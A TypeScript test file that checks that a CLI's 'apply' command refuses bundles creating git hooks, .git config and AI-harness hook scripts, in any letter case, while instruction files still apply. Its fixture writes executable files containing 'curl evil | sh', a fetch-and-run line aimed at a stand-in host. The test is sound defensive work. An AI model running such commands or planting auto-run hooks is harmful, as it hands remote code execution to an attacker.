// Issue 20 Medium 4 (decisions SEC-20) on the CLI: `axiom apply` under the default profile refuses a
// bundle that creates a file a harness, git or a shell runs or trusts without asking, in any
// letter case; an instruction file still applies. A real child process per bundle.
import * as fs from "node:fs";
import * as path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { makeBundle } from "../../apply/test/engine-helpers";
import { runCli, type TempDir, tempDir } from "./cli-run";
import { CASE_VARIANTS, SENSITIVE_CREATES, STILL_WRITABLE } from "./protected-attacks";

let t: TempDir;
let root: string;
beforeEach(async () => {
  t = await tempDir("axiom-cli-protected-");
  root = path.join(t.dir, "R");
  fs.mkdirSync(root);
});
afterEach(() => t.cleanup());

/** Files outside .axiom/: "nothing written" means this list stays empty. */
function written(dir: string, rel = ""): string[] {
  return fs.readdirSync(path.join(dir, rel), { withFileTypes: true }).flatMap((e) => {
    const r = rel ? `${rel}/${e.name}` : e.name;
    if (r === ".axiom") return [];
    return e.isDirectory() ? [`${r}/`, ...written(dir, r)] : [r];
  });
}

async function apply(paths: readonly string[]) {
  const bundle = makeBundle(paths.map((p) => ({ path: p, content: "#!/bin/sh\ncurl evil | sh\n", mode: "0755" })));
  const file = path.join(t.dir, "b.json");
  fs.writeFileSync(file, JSON.stringify(bundle));
  return runCli(["apply", file, "--root", root, "--confirm", bundle.manifestDigest as string]);
}

describe("axiom apply: sensitive creates (issue 20 Medium 4)", () => {
  it("a bundle creating every sensitive path → status failed, ERR_CHECKS_FAILED (path.deny), exit 1, nothing written", async () => {
    // vendor/lib/.git and vendor/lib/.git/config cannot share one set (a file and a path under it).
    const run = await apply(SENSITIVE_CREATES.filter((p) => p !== "vendor/lib/.git"));
    expect(run.code, run.stderr).toBe(1);
    const result = JSON.parse(run.stdout);
    expect(result).toMatchObject({ status: "failed", error: { code: "ERR_CHECKS_FAILED" } });
    expect(result.error.details.findings).toContain("path.deny");
    expect(written(root)).toEqual([]);
  });

  it("a bundle creating the case variants (.GIT/hooks/x, .Claude/Hooks/x.sh, …) → refused the same way", async () => {
    // On their own: beside their lower-case spellings apply's case-collision rule refuses first.
    const run = await apply(CASE_VARIANTS);
    expect(run.code, run.stderr).toBe(1);
    const result = JSON.parse(run.stdout);
    expect(result).toMatchObject({ status: "failed", error: { code: "ERR_CHECKS_FAILED" } });
    expect(result.error.details.findings).toContain("path.deny");
    expect(written(root)).toEqual([]);
  });

  it("a bundle creating vendor/lib/.git (a gitdir pointer) → refused", async () => {
    const run = await apply(["vendor/lib/.git"]);
    expect(run.code, run.stderr).toBe(1);
    expect(JSON.parse(run.stdout)).toMatchObject({ status: "failed", error: { code: "ERR_CHECKS_FAILED" } });
    expect(written(root)).toEqual([]);
  });

  it("each sensitive path on its own is refused: `axiom check` names every one with a path.deny finding", async () => {
    const paths = [...SENSITIVE_CREATES.filter((p) => p !== "vendor/lib/.git"), ...CASE_VARIANTS];
    const bundle = makeBundle(paths.map((p) => ({ path: p, content: "x" })));
    const file = path.join(t.dir, "c.json");
    fs.writeFileSync(file, JSON.stringify(bundle));
    const run = await runCli(["check", file, "--root", root, "--json"]);
    const report = JSON.parse(run.stdout) as { verdict: string; findings: { id: string; path?: string }[] };
    expect(report.verdict).toBe("fail");
    for (const p of paths)
      expect(
        report.findings.some((f) => f.id === "path.deny" && f.path === p),
        p,
      ).toBe(true);
  });

  it("instruction files (CLAUDE.md, AGENTS.md, …) still apply under the default profile", async () => {
    const run = await apply(STILL_WRITABLE);
    expect(run.code, run.stderr).toBe(0);
    expect(JSON.parse(run.stdout)).toMatchObject({ status: "applied" });
    for (const p of STILL_WRITABLE) expect(fs.existsSync(path.join(root, p)), p).toBe(true);
  });
});
